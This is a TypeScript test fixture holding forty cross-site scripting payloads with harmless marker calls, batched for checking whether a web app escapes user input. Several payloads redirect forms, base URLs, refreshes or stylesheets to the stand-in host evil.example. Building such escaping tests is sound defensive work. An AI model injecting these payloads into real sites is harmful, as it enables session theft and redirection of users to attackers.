/** Texts that become markup wherever one is written as it is. Each bears its own mark. */
const WRITTEN = [
  '<script>MARK()</script>',
  '"><script>MARK()</script>',
  "'><script>MARK()</script>",
  '</title><script>MARK()</script>',
  '</textarea><script>MARK()</script>',
  '</option></select><img src=x onerror=MARK()>',
  '</td></tr></table><img src=x onerror=MARK()>',
  '<img src=x onerror=MARK()>',
  '<img src=x onerror="MARK()"',
  '<img/src=x/onerror=MARK()>',
  '<IMG SRC=x OnErRoR=MARK()>',
  '"><img src=x onerror=MARK()>',
  '<svg onload=MARK()>',
  '<svg><script>MARK()</script></svg>',
  '<svg><animate onbegin=MARK() attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=MARK()></mtext></math>',
  '<iframe src=javascript:MARK()></iframe>',
  '<iframe srcdoc="<script>MARK()</script>"></iframe>',
  '<object data=javascript:MARK()></object>',
  '<embed src=javascript:MARK()>',
  '<a href=javascript:MARK()>x</a>',
  '<a href="java\tscript:MARK()">x</a>',
  'javascript:MARK()',
  'data:text/html,<script>MARK()</script>',
  '" onmouseover="MARK()" x="',
  "' onmouseover='MARK()' x='",
  '" autofocus onfocus=MARK() x="',
  ' onfocus=MARK() autofocus ',
  '<input onfocus=MARK() autofocus>',
  '<form action=//evil.example/MARK><button>x</button></form>',
  '<base href=//evil.example/MARK>',
  '<meta http-equiv=refresh content="0;url=//evil.example/MARK">',
  '<link rel=stylesheet href=//evil.example/MARK>',
  '<style>@import "//evil.example/MARK";</style>',
  '<details open ontoggle=MARK()>',
  '<template><img src=x onerror=MARK()></template>',
  '<!--><img src=x onerror=MARK()>-->',
  '&lt;img src=x onerror=MARK()&gt;',
  '&#60;img src=x onerror=MARK()&#62;',
  '\\u003cscript\\u003eMARK()\\u003c/script\\u003e`${MARK()}`',
] as const;

/** Forty payloads (SEC-28); the mark of each is `xssNN`. */
export const PAYLOADS: readonly string[] = WRITTEN.map((text, at) =>
  text.replaceAll('MARK', `xss${10 + at}`),
);

/** The payload that bears a mark. */
export function payloadOf(mark: string): string {
  return PAYLOADS[Number(mark.slice(3)) - 10] ?? '';
}

const together = (count: number): readonly string[] =>
  Array.from({ length: Math.ceil(PAYLOADS.length / count) }, (_, at) =>
    PAYLOADS.slice(at * count, (at + 1) * count).join(' '),
  );

/** Eight at a time: all of them would be longer than an index takes. */
export const ROUNDS: readonly string[] = together(8);

/** Three at a time: no field of a form cuts them. */
export const THREES: readonly string[] = together(3);
